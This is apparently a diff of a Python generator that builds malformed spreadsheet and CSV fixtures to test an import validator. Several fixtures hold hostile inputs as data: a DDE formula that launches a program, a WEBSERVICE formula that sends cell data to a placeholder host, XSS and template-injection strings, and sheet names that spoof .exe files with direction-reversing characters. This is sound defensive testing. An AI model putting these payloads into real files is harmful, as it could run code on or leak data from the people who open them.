-    odd("links.xlsx", "a value taken from another file, as it was saved", xlsx({"coverage": rows}, linked), "links_ignored@")
-    dde = [HEADERS, [*ROWS[0][:4], Raw(' t="str"', "<f>cmd|'/c calc'!A0</f><v>report</v>")], ROWS[1]]
-    odd("command.xlsx", "a formula that would start a program; its saved value is text", xlsx({"coverage": dde}))
-    web = [HEADERS, [*ROWS[0][:4], Raw(' t="str"', '<f>WEBSERVICE("http://127.0.0.1:9/?"&amp;A2)</f><v>report</v>')], ROWS[1]]
-    odd("webservice.xlsx", "a formula that would call out; its saved value is text", xlsx({"coverage": web}))
+    odd(
+        "links.xlsx",
+        "a value taken from another file, as it was saved",
+        xlsx({"coverage": rows}, linked),
+        "links_ignored@",
+    )
+    dde = [
+        HEADERS,
+        [*ROWS[0][:4], Raw(' t="str"', "<f>cmd|'/c calc'!A0</f><v>report</v>")],
+        ROWS[1],
+    ]
+    odd(
+        "command.xlsx",
+        "a formula that would start a program; its saved value is text",
+        xlsx({"coverage": dde}),
+    )
+    web = [
+        HEADERS,
+        [
+            *ROWS[0][:4],
+            Raw(' t="str"', '<f>WEBSERVICE("http://127.0.0.1:9/?"&amp;A2)</f><v>report</v>'),
+        ],
+        ROWS[1],
+    ]
+    odd(
+        "webservice.xlsx",
+        "a formula that would call out; its saved value is text",
+        xlsx({"coverage": web}),
+    )
     connection = f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" type="5" name="c" refreshOnLoad="1"><dbPr connection="http://127.0.0.1:9"/></connection></connections>'
     odd(
         "connection.xlsx",
         "a connection to a database, to be refreshed on opening",
         xlsx(
             {"coverage": COVERAGE},
-            {"xl/connections.xml": connection.encode(), "xl/_rels/workbook.xml.rels": related("connections", "connections.xml")},
+            {
+                "xl/connections.xml": connection.encode(),
+                "xl/_rels/workbook.xml.rels": related("connections", "connections.xml"),
+            },
         ),
         "links_ignored@",
     )
@@ -619,7 +953,14 @@ def active() -> None:
     odd(
         "hyperlink.xlsx",
         "a text with a link behind it",
-        xlsx({"coverage": hyper}, {"xl/worksheets/_rels/sheet1.xml.rels": target.replace(b"externalLinkPath", b"hyperlink")}),
+        xlsx(
+            {"coverage": hyper},
+            {
+                "xl/worksheets/_rels/sheet1.xml.rels": target.replace(
+                    b"externalLinkPath", b"hyperlink"
+                )
+            },
+        ),
     )
     odd(
         "attachment.xlsx",
@@ -630,7 +971,11 @@ def active() -> None:
 
 def formulas() -> None:
     for sign in ("#REF!", "#N/A", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"):
-        rows = [PEOPLE, ["w1", "SYR", "government", Raw(' t="e"', f"<f>A1</f><v>{sign}</v>")], ["w1", "TUN", "government", 3]]
+        rows = [
+            PEOPLE,
+            ["w1", "SYR", "government", Raw(' t="e"', f"<f>A1</f><v>{sign}</v>")],
+            ["w1", "TUN", "government", 3],
+        ]
         odd(
             f"error-{sign.strip('#!?').replace('/', '').lower()}.xlsx",
             f"a formula that gives {sign}",
@@ -645,7 +990,13 @@ def formulas() -> None:
         "error_value@E2",
         "coverage 1/1",
     )
-    odd("error.csv", "an error as text", TEXT.replace("planned", "#REF!").encode(), "unknown_term@D3", "coverage 1/1")
+    odd(
+        "error.csv",
+        "an error as text",
+        TEXT.replace("planned", "#REF!").encode(),
+        "unknown_term@D3",
+        "coverage 1/1",
+    )
     odd(
         "error.ods",
         "an error of LibreOffice",
@@ -657,7 +1008,8 @@ def formulas() -> None:
                     [
                         *ROWS[1][:2],
                         Raw(
-                            ' table:formula="of:=1/0" office:value-type="string" office:string-value="" calcext:value-type="error"',
+                            ' table:formula="of:=1/0" office:value-type="string" '
+                            'office:string-value="" calcext:value-type="error"',
                             "<text:p>#DIV/0!</text:p>",
                         ),
                         *ROWS[1][3:],
@@ -669,7 +1021,13 @@ def formulas() -> None:
         "coverage 1/1",
     )
     unsaved = Raw("", "<f>SUM(A1:A2)</f>")
-    odd("valueless.xlsx", "a formula saved without its value", people(unsaved, 3), "formula_without_value@D2", "participants 1/1")
+    odd(
+        "valueless.xlsx",
+        "a formula saved without its value",
+        people(unsaved, 3),
+        "formula_without_value@D2",
+        "participants 1/1",
+    )
     odd(
         "valueless-row.xlsx",
         "a row of nothing but formulas without values",
@@ -687,14 +1045,31 @@ def formulas() -> None:
     odd(
         "valueless.ods",
         "an OpenDocument formula saved without its value",
-        ods({"coverage": [HEADERS, ROWS[0], [*ROWS[1][:2], Raw(' table:formula="of:=1+6"'), *ROWS[1][3:]]]}),
+        ods(
+            {
+                "coverage": [
+                    HEADERS,
+                    ROWS[0],
+                    [*ROWS[1][:2], Raw(' table:formula="of:=1+6"'), *ROWS[1][3:]],
+                ]
+            }
+        ),
         "formula_without_value@C3",
         "coverage 1/1",
     )
     odd(
         "formula.xlsx",
         "formulas with their values",
-        coverage([Raw("", "<f>2019+1</f><v>2020</v>"), Raw(' t="str"', '<f>"S"&amp;"YR"</f><v>SYR</v>'), 11, "planned", "report"], ROWS[1]),
+        coverage(
+            [
+                Raw("", "<f>2019+1</f><v>2020</v>"),
+                Raw(' t="str"', '<f>"S"&amp;"YR"</f><v>SYR</v>'),
+                11,
+                "planned",
+                "report",
+            ],
+            ROWS[1],
+        ),
     )
     odd(
         "formula-empty.xlsx",
@@ -709,15 +1084,31 @@ def formulas() -> None:
             [Raw("", '<f t="shared" si="0"/><v>2020</v>'), *ROWS[1][1:]],
         ),
     )
-    odd("circular.xlsx", "a formula about itself, saved as 0", people(Raw("", "<f>D2+1</f><v>0</v>"), 3), rows="participants 2/0")
+    odd(
+        "circular.xlsx",
+        "a formula about itself, saved as 0",
+        people(Raw("", "<f>D2+1</f><v>0</v>"), 3),
+        rows="participants 2/0",
+    )
 
 
 def hidden() -> None:
-    odd("hidden-rows.xlsx", "a hidden row", sheet1(worksheet(COVERAGE, row_attributes={3: ' hidden="1"'})), "hidden_rows@")
+    odd(
+        "hidden-rows.xlsx",
+        "a hidden row",
+        sheet1(worksheet(COVERAGE, row_attributes={3: ' hidden="1"'})),
+        "hidden_rows@",
+    )
     odd(
         "filtered.xlsx",
         "rows hidden by a filter",
-        sheet1(worksheet(COVERAGE, row_attributes={2: ' hidden="true"', 3: ' hidden="1"'}, after='<autoFilter ref="A1:E3"/>')),
+        sheet1(
+            worksheet(
+                COVERAGE,
+                row_attributes={2: ' hidden="true"', 3: ' hidden="1"'},
+                after='<autoFilter ref="A1:E3"/>',
+            )
+        ),
         "hidden_rows@",
     )
     odd(
@@ -741,7 +1132,10 @@ def hidden() -> None:
     odd(
         "hidden-sheet.ods",
         "the table is on a hidden sheet",
-        ods({"notes": [["hello"]], "coverage": COVERAGE}, attributes={"coverage": ' table:style-name="ta2"'}),
+        ods(
+            {"notes": [["hello"]], "coverage": COVERAGE},
+            attributes={"coverage": ' table:style-name="ta2"'},
+        ),
         "unknown_sheet@notes! hidden_sheet@coverage!",
     )
     odd(
@@ -750,7 +1144,9 @@ def hidden() -> None:
         ods(
             {
                 "coverage": ods_rows(COVERAGE[:2])
-                + ods_rows(COVERAGE[2:]).replace("<table:table-row>", '<table:table-row table:visibility="collapse">')
+                + ods_rows(COVERAGE[2:]).replace(
+                    "<table:table-row>", '<table:table-row table:visibility="collapse">'
+                )
             }
         ),
         "hidden_rows@",
@@ -768,7 +1164,11 @@ def hidden() -> None:
 
 
 def layouts() -> None:
-    two = [["cycle", "state", "Objective and status", None, "source"], [None, None, "objective", "status", None], *ROWS]
+    two = [
+        ["cycle", "state", "Objective and status", None, "source"],
+        [None, None, "objective", "status", None],
+        *ROWS,
+    ]
     odd(
         "merged-headers.xlsx",
         "headers merged over two rows, others beside each other beneath one",
@@ -777,12 +1177,20 @@ def layouts() -> None:
     odd(
         "merged-banner.xlsx",
         "a banner merged over all columns",
-        sheet1(worksheet([["Second session", None, None, None, None], *COVERAGE], after=merged("A1:E1"))),
+        sheet1(
+            worksheet(
+                [["Second session", None, None, None, None], *COVERAGE], after=merged("A1:E1")
+            )
+        ),
     )
     odd(
         "merged-state.xlsx",
         "a state merged over its rows",
-        sheet1(worksheet([HEADERS, ROWS[0], [2020, None, 12, "planned", "report"]], after=merged("B2:B3"))),
+        sheet1(
+            worksheet(
+                [HEADERS, ROWS[0], [2020, None, 12, "planned", "report"]], after=merged("B2:B3")
+            )
+        ),
     )
     odd(
         "merged-headcount.xlsx",
@@ -790,7 +1198,12 @@ def layouts() -> None:
         xlsx(
             {
                 "participants": worksheet(
-                    [PEOPLE, ["w1", "SYR", "government", 27], ["w1", "TUN", "government", None], ["w1", "LBN", "government", 2]],
+                    [
+                        PEOPLE,
+                        ["w1", "SYR", "government", 27],
+                        ["w1", "TUN", "government", None],
+                        ["w1", "LBN", "government", 2],
+                    ],
                     after=merged("D2:D3"),
                 )
             }
@@ -798,7 +1211,11 @@ def layouts() -> None:
         "merged_number@D2 merged_number@D3",
         "participants 1/2",
     )
-    odd("merged-all.xlsx", "a merged range over all cells there can be", sheet1(worksheet(COVERAGE, after=merged("F10:XFD1048576"))))
+    odd(
+        "merged-all.xlsx",
+        "a merged range over all cells there can be",
+        sheet1(worksheet(COVERAGE, after=merged("F10:XFD1048576"))),
+    )
     odd(
         "merged-nonsense.xlsx",
         "a merged range that is no range",
@@ -820,7 +1237,16 @@ def layouts() -> None:
     odd(
         "two-tables-below.xlsx",
         "a second table beneath the first",
-        xlsx({"coverage": [*COVERAGE, [], ["event", "state", "category", "headcount"], ["w1", "SYR", "government", 3]]}),
+        xlsx(
+            {
+                "coverage": [
+                    *COVERAGE,
+                    [],
+                    ["event", "state", "category", "headcount"],
+                    ["w1", "SYR", "government", 3],
+                ]
+            }
+        ),
         "two_tables@A5",
         "coverage 0/4",
     )
@@ -828,26 +1254,68 @@ def layouts() -> None:
         "two-tables-beside.xlsx",
         "a second table beside the first",
         xlsx({"coverage": [[*HEADERS, None, *HEADERS], [*ROWS[0], None, *ROWS[1]]]}),
-        "column_twice@G1 column_twice@H1 column_twice@I1 column_twice@J1 column_twice@K1 two_tables@G1",
+        "column_twice@G1 column_twice@H1 column_twice@I1 column_twice@J1 column_twice@K1 "
+        "two_tables@G1",
         "coverage 0/1",
     )
     odd(
         "two-tables-strangers.xlsx",
         "another kind of table beside the first",
-        xlsx({"coverage": [[*HEADERS, None, "event", "category", "headcount"], [*ROWS[0], None, "w1", "government", 3]]}),
+        xlsx(
+            {
+                "coverage": [
+                    [*HEADERS, None, "event", "category", "headcount"],
+                    [*ROWS[0], None, "w1", "government", 3],
+                ]
+            }
+        ),
         "unknown_column@G1 unknown_column@H1 unknown_column@I1 two_tables@G1",
         "coverage 0/1",
     )
-    odd("header-in-row-15.xlsx", "headers in row 15", xlsx({"coverage": [["Second session"], *[[]] * 13, *COVERAGE]}))
-    odd("header-in-row-21.xlsx", "headers in row 21", xlsx({"coverage": [["banner"]] * 20 + COVERAGE}), "no_header@", "coverage 0/23")
     odd(
-        "blank-columns.xlsx", "blank columns between", xlsx({"coverage": [[v for value in row for v in (value, None)] for row in COVERAGE]})
+        "header-in-row-15.xlsx",
+        "headers in row 15",
+        xlsx({"coverage": [["Second session"], *[[]] * 13, *COVERAGE]}),
     )
-    odd("blank-rows.xlsx", "blank rows between", xlsx({"coverage": [HEADERS, [], ROWS[0], ["", " ", "\u00a0", "\u200f"], [], ROWS[1], []]}))
-    odd("headers-only.xlsx", "only headers", xlsx({"coverage": [HEADERS]}), "no_rows@", "coverage 0/0")
-    odd("headers-only.csv", "only headers", b"cycle,state,objective,status\n", "no_rows@", "coverage 0/0")
+    odd(
+        "header-in-row-21.xlsx",
+        "headers in row 21",
+        xlsx({"coverage": [["banner"]] * 20 + COVERAGE}),
+        "no_header@",
+        "coverage 0/23",
+    )
+    odd(
+        "blank-columns.xlsx",
+        "blank columns between",
+        xlsx({"coverage": [[v for value in row for v in (value, None)] for row in COVERAGE]}),
+    )
+    odd(
+        "blank-rows.xlsx",
+        "blank rows between",
+        xlsx({"coverage": [HEADERS, [], ROWS[0], ["", " ", "\u00a0", "\u200f"], [], ROWS[1], []]}),
+    )
+    odd(
+        "headers-only.xlsx",
+        "only headers",
+        xlsx({"coverage": [HEADERS]}),
+        "no_rows@",
+        "coverage 0/0",
+    )
+    odd(
+        "headers-only.csv",
+        "only headers",
+        b"cycle,state,objective,status\n",
+        "no_rows@",
+        "coverage 0/0",
+    )
     odd("blank-sheet.xlsx", "only an empty sheet", xlsx({"coverage": []}), "no_table@")
-    odd("no-headers.xlsx", "rows without headers", xlsx({"coverage": ROWS}), "no_header@", "coverage 0/2")
+    odd(
+        "no-headers.xlsx",
+        "rows without headers",
+        xlsx({"coverage": ROWS}),
+        "no_header@",
+        "coverage 0/2",
+    )
     odd(
         "column-missing.xlsx",
         "a required column is missing",
@@ -862,7 +1330,12 @@ def layouts() -> None:
         "no_header@",
         "coverage 0/5",
     )
-    odd("unnamed-column.xlsx", "values without a header", xlsx({"coverage": [HEADERS, [*ROWS[0], "what"], ROWS[1]]}), "unnamed_column@F1")
+    odd(
+        "unnamed-column.xlsx",
+        "values without a header",
+        xlsx({"coverage": [HEADERS, [*ROWS[0], "what"], ROWS[1]]}),
+        "unnamed_column@F1",
+    )
     odd(
         "unknown-column.xlsx",
         "a column that is none of the table's",
@@ -886,7 +1359,14 @@ def layouts() -> None:
     odd(
         "header-marks.xlsx",
         "headers with line breaks, stars and colons",
-        xlsx({"coverage": [["Cycle *", "State:", "Objective\nnumber", " STATUS\u00a0", "Source (1)"], *ROWS]}),
+        xlsx(
+            {
+                "coverage": [
+                    ["Cycle *", "State:", "Objective\nnumber", " STATUS\u00a0", "Source (1)"],
+                    *ROWS,
+                ]
+            }
+        ),
         "unknown_column@E1",
     )
     odd(
@@ -905,7 +1385,13 @@ def layouts() -> None:
     odd("chart-sheet.xlsx", "a sheet that is a chart", chart_sheet())
     names = {
         "ar": ("الفعاليات", "المشاركون", "التقدم المحرز", "تغطية الأهداف", "المبادئ التوجيهية"),
-        "fr": ("Événements", "Participants", "Progrès", "Couverture des objectifs", "Principes directeurs"),
+        "fr": (
+            "Événements",
+            "Participants",
+            "Progrès",
+            "Couverture des objectifs",
+            "Principes directeurs",
+        ),
     }
     five = (
         EVENTS,
@@ -953,8 +1439,16 @@ def layouts() -> None:
         b"event,state,category\nw1,SYR,government\n",
         rows="participants 1/0",
     )
-    odd("name-of-markup.xlsx", "a sheet named like markup", xlsx({"<img src=x onerror=alert(1)>": COVERAGE}))
-    odd("name-turned.xlsx", "a sheet whose name turns text around", xlsx({"coverage\u202excod.exe": COVERAGE}))
+    odd(
+        "name-of-markup.xlsx",
+        "a sheet named like markup",
+        xlsx({"<img src=x onerror=alert(1)>": COVERAGE}),
+    )
+    odd(
+        "name-turned.xlsx",
+        "a sheet whose name turns text around",
+        xlsx({"coverage\u202excod.exe": COVERAGE}),
+    )
 
 
 def chart_sheet() -> bytes:
@@ -965,7 +1459,10 @@ def chart_sheet() -> bytes:
     rels = (
         book["xl/_rels/workbook.xml.rels"]
         .decode()
-        .replace(f'{RELATIONS}/worksheet" Target="worksheets/sheet2.xml"', f'{RELATIONS}/chartsheet" Target="chartsheets/sheet1.xml"')
+        .replace(
+            f'{RELATIONS}/worksheet" Target="worksheets/sheet2.xml"',
+            f'{RELATIONS}/chartsheet" Target="chartsheets/sheet1.xml"',
+        )
     )
     return zipped({**book, "xl/_rels/workbook.xml.rels": rels.encode()})
 
@@ -977,10 +1474,24 @@ FRENCH = "cycle,state,objective,status,evidence_fr\n2020,Syrie,11,under_way,Stra
 def encodings() -> None:
     odd("utf-8-bom.csv", "UTF-8 with a byte order mark", ARABIC.encode("utf-8-sig"))
     odd("utf-16-le-bom.csv", "UTF-16 with a byte order mark", ARABIC.encode("utf-16"))
-    odd("utf-16-be.tsv", "UTF-16, big end first, without a mark", ARABIC.replace(",", "\t").encode("utf-16-be"))
-    odd("utf-16-odd.csv", "UTF-16 with half a letter at the end", ARABIC.encode("utf-16") + b"\x41", UNREADABLE)
+    odd(
+        "utf-16-be.tsv",
+        "UTF-16, big end first, without a mark",
+        ARABIC.replace(",", "\t").encode("utf-16-be"),
+    )
+    odd(
+        "utf-16-odd.csv",
+        "UTF-16 with half a letter at the end",
+        ARABIC.encode("utf-16") + b"\x41",
+        UNREADABLE,
+    )
     odd("utf-32.csv", "UTF-32", ARABIC.encode("utf-32"), UNREADABLE)
-    odd("windows-1256.csv", "Windows-1256, which does not say so", ARABIC.encode("cp1256"), "encoding_guessed@")
+    odd(
+        "windows-1256.csv",
+        "Windows-1256, which does not say so",
+        ARABIC.encode("cp1256"),
+        "encoding_guessed@",
+    )
     odd("latin-1.csv", "Latin-1: French letters", FRENCH.encode("latin-1"), "encoding_guessed@")
     odd(
         "iso-8859-6.csv",
@@ -995,10 +1506,30 @@ def encodings() -> None:
         ARABIC.encode().replace("خطة".encode(), "خطة".encode()[:-1]),
         UNREADABLE,
     )
-    odd("two-encodings.csv", "half UTF-8, half Windows-1256", ARABIC.encode() + "2020,لبنان,8,planned,خطة\n".encode("cp1256"), UNREADABLE)
-    odd("nul.csv", "NUL bytes among the text", TEXT.replace("report", "rep\0ort").encode(), UNREADABLE)
-    odd("nul-tail.csv", "NUL bytes behind the text, as a crash leaves them", TEXT.encode() + bytes(4096), UNREADABLE)
-    odd("surrogates.csv", "halves of letters, written as UTF-8", TEXT.encode() + b"2020,LBN,8,planned,\xed\xa0\x80\n", UNREADABLE)
+    odd(
+        "two-encodings.csv",
+        "half UTF-8, half Windows-1256",
+        ARABIC.encode() + "2020,لبنان,8,planned,خطة\n".encode("cp1256"),
+        UNREADABLE,
+    )
+    odd(
+        "nul.csv",
+        "NUL bytes among the text",
+        TEXT.replace("report", "rep\0ort").encode(),
+        UNREADABLE,
+    )
+    odd(
+        "nul-tail.csv",
+        "NUL bytes behind the text, as a crash leaves them",
+        TEXT.encode() + bytes(4096),
+        UNREADABLE,
+    )
+    odd(
+        "surrogates.csv",
+        "halves of letters, written as UTF-8",
+        TEXT.encode() + b"2020,LBN,8,planned,\xed\xa0\x80\n",
+        UNREADABLE,
+    )
 
 
 def delimited() -> None:
@@ -1009,18 +1540,47 @@ def delimited() -> None:
         TEXT.replace(",", ";").replace("report", "report, annex, page 2").encode(),
     )
     odd("pipes.txt", "bars between values", TEXT.replace(",", "|").encode())
-    odd("sep.csv", "a first line that says the mark, for Excel", b"sep=;\n" + TEXT.replace(",", ";").encode())
-    odd("quoted-newlines.csv", "line breaks within quotes", TEXT.replace("report", '"report,\nannex"').encode())
-    odd("old-mac.csv", "line ends of old computers", TEXT.replace("\n", "\r").encode())
-    odd("mixed-ends.csv", "line ends of three kinds", TEXT.replace("\n", "\r\n", 1).replace("report\n2020", "report\r2020").encode())
     odd(
-        "shifted.csv", "a comma without quotes", TEXT.replace("TUN,7", "TUN,7,8").encode(), "shifted_row@F3 unknown_term@D3", "coverage 1/1"
+        "sep.csv",
+        "a first line that says the mark, for Excel",
+        b"sep=;\n" + TEXT.replace(",", ";").encode(),
     )
-    odd("short-rows.csv", "rows that end early", TEXT.replace(",planned,report", "").encode(), "missing_value@D3", "coverage 1/1")
-    odd("commas-behind.csv", "commas at the end of every line", TEXT.replace("\n", ",,,\n").encode())
+    odd(
+        "quoted-newlines.csv",
+        "line breaks within quotes",
+        TEXT.replace("report", '"report,\nannex"').encode(),
+    )
+    odd("old-mac.csv", "line ends of old computers", TEXT.replace("\n", "\r").encode())
+    odd(
+        "mixed-ends.csv",
+        "line ends of three kinds",
+        TEXT.replace("\n", "\r\n", 1).replace("report\n2020", "report\r2020").encode(),
+    )
+    odd(
+        "shifted.csv",
+        "a comma without quotes",
+        TEXT.replace("TUN,7", "TUN,7,8").encode(),
+        "shifted_row@F3 unknown_term@D3",
+        "coverage 1/1",
+    )
+    odd(
+        "short-rows.csv",
+        "rows that end early",
+        TEXT.replace(",planned,report", "").encode(),
+        "missing_value@D3",
+        "coverage 1/1",
+    )
+    odd(
+        "commas-behind.csv", "commas at the end of every line", TEXT.replace("\n", ",,,\n").encode()
+    )
     odd("quote-within.csv", "a quote within a value", TEXT.replace("report", 're"port').encode())
     odd("single-column.csv", "one column", b"state\nSYR\nTUN\n", "no_table@")
-    odd("long-field.csv", "a value of 1 MB", TEXT.replace("report", '"' + "long text " * 20_000 + '"', 1).encode(), UNREADABLE)
+    odd(
+        "long-field.csv",
+        "a value of 1 MB",
+        TEXT.replace("report", '"' + "long text " * 20_000 + '"', 1).encode(),
+        UNREADABLE,
+    )
     odd(
         "comments.csv",
         "lines of comment before and among the rows",
@@ -1036,15 +1596,31 @@ def delimited() -> None:
         rows="participants 2/0",
     )
     odd("workbook.csv", "a workbook called .csv", GOOD)
-    odd("blank-lines.csv", "blank lines everywhere", ("\n\n" + TEXT.replace("\n", "\n\n") + "\n\n").encode())
-    odd("duplicate-header.csv", "a header that stands twice", TEXT.replace("source", "state").encode(), "column_twice@E1")
+    odd(
+        "blank-lines.csv",
+        "blank lines everywhere",
+        ("\n\n" + TEXT.replace("\n", "\n\n") + "\n\n").encode(),
+    )
+    odd(
+        "duplicate-header.csv",
+        "a header that stands twice",
+        TEXT.replace("source", "state").encode(),
+        "column_twice@E1",
+    )
 
 
 def signs_text() -> str:
     lines = [
         f'2020,{state},{n},planned,"{text}"'
         for n, (state, text) in enumerate(
-            (("SYR", "=1+1"), ("TUN", "+1 of 2"), ("LBN", "-1 less"), ("JOR", "@SUM(A1)"), ("OMN", "=cmd|'/c calc'!A0")), 1
+            (
+                ("SYR", "=1+1"),
+                ("TUN", "+1 of 2"),
+                ("LBN", "-1 less"),
+                ("JOR", "@SUM(A1)"),
+                ("OMN", "=cmd|'/c calc'!A0"),
+            ),
+            1,
         )
     ]
     return "cycle,state,objective,status,source\n" + "\n".join(lines) + "\n"
@@ -1054,7 +1630,9 @@ def dates() -> None:
     odd(
         "dates-1904.xlsx",
         "a workbook that counts days from 1904",
-        xlsx({"progress": reviews(Day(42594), Day(42594))}, properties='<workbookPr date1904="1"/>'),
+        xlsx(
+            {"progress": reviews(Day(42594), Day(42594))}, properties='<workbookPr date1904="1"/>'
+        ),
         rows="progress 2/0",
     )
 
@@ -1070,7 +1648,13 @@ def dates() -> None:
     odd(
         "dates-typed.xlsx",
         "dates written as ISO in the XML",
-        xlsx({"progress": reviews(Raw(' t="d"', "<v>2020-08-13</v>"), Raw(' t="d"', "<v>2020-08-13T10:30:00</v>"))}),
+        xlsx(
+            {
+                "progress": reviews(
+                    Raw(' t="d"', "<v>2020-08-13</v>"), Raw(' t="d"', "<v>2020-08-13T10:30:00</v>")
+                )
+            }
+        ),
         rows="progress 2/0",
     )
     odd(
@@ -1154,14 +1738,26 @@ def dates() -> None:
     odd(
         "dates-out-of-range.xlsx",
         "dates that no program knows, or long ago, or far ahead",
-        xlsx({"progress": reviews(Day(-1), Day(2958466), Day(1e15), Day(60), "13/08/1020", "01/01/2101")}),
+        xlsx(
+            {
+                "progress": reviews(
+                    Day(-1), Day(2958466), Day(1e15), Day(60), "13/08/1020", "01/01/2101"
+                )
+            }
+        ),
         " ".join(f"not_a_date@C{n}" for n in range(2, 8)),
         "progress 0/6",
     )
     odd(
         "dates-impossible.xlsx",
         "days that do not exist",
-        xlsx({"progress": reviews("31/02/2020", "13/13/2020", "00/05/2020", "29/02/2021", "soon", "August 2020")}),
+        xlsx(
+            {
+                "progress": reviews(
+                    "31/02/2020", "13/13/2020", "00/05/2020", "29/02/2021", "soon", "August 2020"
+                )
+            }
+        ),
         " ".join(f"not_a_date@C{n}" for n in range(2, 8)),
         "progress 0/6",
     )
@@ -1175,7 +1771,13 @@ def dates() -> None:
     odd(
         "dates-with-time.xlsx",
         "dates with a time of day",
-        xlsx({"progress": reviews(Day(44056.75), "2020-08-13T18:00:00Z", "13/08/2020 18:00", "8/13/2020 6:00 PM")}),
+        xlsx(
+            {
+                "progress": reviews(
+                    Day(44056.75), "2020-08-13T18:00:00Z", "13/08/2020 18:00", "8/13/2020 6:00 PM"
+                )
+            }
+        ),
         rows="progress 4/0",
     )
     odd(
@@ -1185,7 +1787,13 @@ def dates() -> None:
         rows="progress 2/0",
     )
     late = [EVENTS[0], [*EVENTS[1][:3], "2020-08-14", "2020-08-13", *EVENTS[1][5:]]]
-    odd("ends-before-start.xlsx", "an event that ends before it starts", xlsx({"events": late}), "end_before_start@E2", "events 0/1")
+    odd(
+        "ends-before-start.xlsx",
+        "an event that ends before it starts",
+        xlsx({"events": late}),
+        "end_before_start@E2",
+        "events 0/1",
+    )
 
 
 def values() -> None:
@@ -1199,7 +1807,15 @@ def values() -> None:
     odd(
         "row-twice.xlsx",
         "the same delegation twice",
-        xlsx({"participants": [PEOPLE, ["w1", "SYR", "government", 3], ["w1", "SYR", "government", 3]]}),
+        xlsx(
+            {
+                "participants": [
+                    PEOPLE,
+                    ["w1", "SYR", "government", 3],
+                    ["w1", "SYR", "government", 3],
+                ]
+            }
+        ),
         "row_twice@A3",
         "participants 2/0",
     )
@@ -1222,8 +1838,21 @@ def values() -> None:
         "unknown_term@B3 unknown_term@B4 unknown_term@B5",
         "coverage 1/3",
     )
-    spelt = ("ٱلأُردُنّ\u200f", "  EGYPT", "لبنـــان", "U.A.E.", "état du koweït", "SYRIAN arab republic", "دولة فلسطين")
-    odd("states-spelt.xlsx", "states in many spellings", coverage(*([2020, name, 1, "planned", ""] for name in spelt)), rows="coverage 7/0")
+    spelt = (
+        "ٱلأُردُنّ\u200f",
+        "  EGYPT",
+        "لبنـــان",
+        "U.A.E.",
+        "état du koweït",
+        "SYRIAN arab republic",
+        "دولة فلسطين",
+    )
+    odd(
+        "states-spelt.xlsx",
+        "states in many spellings",
+        coverage(*([2020, name, 1, "planned", ""] for name in spelt)),
+        rows="coverage 7/0",
+    )
     odd(
         "headcounts.xlsx",
         "headcounts below zero and of fractions",
@@ -1248,7 +1877,13 @@ def values() -> None:
     odd(
         "headcounts-nonsense.xlsx",
         "numbers that are none",
-        people(Raw("", "<v>NaN</v>"), Raw("", "<v>INF</v>"), Raw("", "<v>1.2.3</v>"), Raw("", "<v>twelve</v>"), 5),
+        people(
+            Raw("", "<v>NaN</v>"),
+            Raw("", "<v>INF</v>"),
+            Raw("", "<v>1.2.3</v>"),
+            Raw("", "<v>twelve</v>"),
+            5,
+        ),
         "not_a_number@D2 not_a_number@D3 not_a_number@D4 not_a_number@D5",
         "participants 1/4",
     )
@@ -1265,25 +1900,48 @@ def values() -> None:
         "not_a_number@D4",
         "participants 2/1",
     )
-    odd("category-unknown.xlsx", "a category that is none", people(3, rest="Goverment"), "unknown_term@C2", "participants 0/1")
+    odd(
+        "category-unknown.xlsx",
+        "a category that is none",
+        people(3, rest="Goverment"),
+        "unknown_term@C2",
+        "participants 0/1",
+    )
     odd(
         "event-unknown.xlsx",
         "an event that is not in the sheet of events",
-        xlsx({"events": EVENTS, "participants": [PEOPLE, ["w1", "SYR", "government", 3], ["w2", "TUN", "government", 3]]}),
+        xlsx(
+            {
+                "events": EVENTS,
+                "participants": [
+                    PEOPLE,
+                    ["w1", "SYR", "government", 3],
+                    ["w2", "TUN", "government", 3],
+                ],
+            }
+        ),
         "unknown_event@participants!A3",
         "events 1/0 participants 1/1",
     )
     odd(
         "totals.xlsx",
         "headcounts that disagree with the total of the source",
-        xlsx({"events": [[*EVENTS[0], "reported_total"], [*EVENTS[1], 10]], "participants": [PEOPLE, ["w1", "SYR", "government", 3]]}),
+        xlsx(
+            {
+                "events": [[*EVENTS[0], "reported_total"], [*EVENTS[1], 10]],
+                "participants": [PEOPLE, ["w1", "SYR", "government", 3]],
+            }
+        ),
         "total_disagrees@events!J2",
         "events 1/0 participants 1/0",
     )
     odd(
         "bidi.xlsx",
         "marks that turn text around",
-        coverage([*ROWS[0][:4], "report\u202etxt.exe\u202c"], [2020, "\u2067TUN\u2069", 7, "planned", "report"]),
+        coverage(
+            [*ROWS[0][:4], "report\u202etxt.exe\u202c"],
+            [2020, "\u2067TUN\u2069", 7, "planned", "report"],
+        ),
         "control_characters@B3 control_characters@E2",
     )
     odd(
@@ -1293,8 +1951,17 @@ def values() -> None:
         "control_characters@B2 unknown_term@B2",
         "coverage 1/1",
     )
-    odd("controls.csv", "control characters", TEXT.replace("report", "re\x7fport\x9b", 1).encode(), "control_characters@E2")
-    odd("invisible.xlsx", "letters that nobody sees", coverage([2020, "S\u200bY\u200dR\ufeff", 11, "planned", "re\u00adport"], ROWS[1]))
+    odd(
+        "controls.csv",
+        "control characters",
+        TEXT.replace("report", "re\x7fport\x9b", 1).encode(),
+        "control_characters@E2",
+    )
+    odd(
+        "invisible.xlsx",
+        "letters that nobody sees",
+        coverage([2020, "S\u200bY\u200dR\ufeff", 11, "planned", "re\u00adport"], ROWS[1]),
+    )
     odd(
         "longest-cell.xlsx",
         "a cell of 32,767 characters",
@@ -1320,7 +1987,16 @@ def values() -> None:
         coverage(
             *(
                 [2020, state, n, "planned", text]
-                for n, (state, text) in enumerate((("SYR", "=1+1"), ("TUN", "+1"), ("LBN", "-1"), ("JOR", "@SUM(1)"), ("OMN", "\t=1")), 1)
+                for n, (state, text) in enumerate(
+                    (
+                        ("SYR", "=1+1"),
+                        ("TUN", "+1"),
+                        ("LBN", "-1"),
+                        ("JOR", "@SUM(1)"),
+                        ("OMN", "\t=1"),
+                    ),
+                    1,
+                )
             )
         ),
         rows="coverage 5/0",
@@ -1330,12 +2006,30 @@ def values() -> None:
         "texts that look like markup",
         coverage(
             [*ROWS[0][:4], "<script>alert(1)</script>"],
-            [*ROWS[1][:4], "![x](http://127.0.0.1:9/x.png) [link](javascript:alert(1)) {{7*7}} ${7*7} %{x}"],
+            [
+                *ROWS[1][:4],
+                "![x](http://127.0.0.1:9/x.png) [link](javascript:alert(1)) {{7*7}} ${7*7} %{x}",
+            ],
         ),
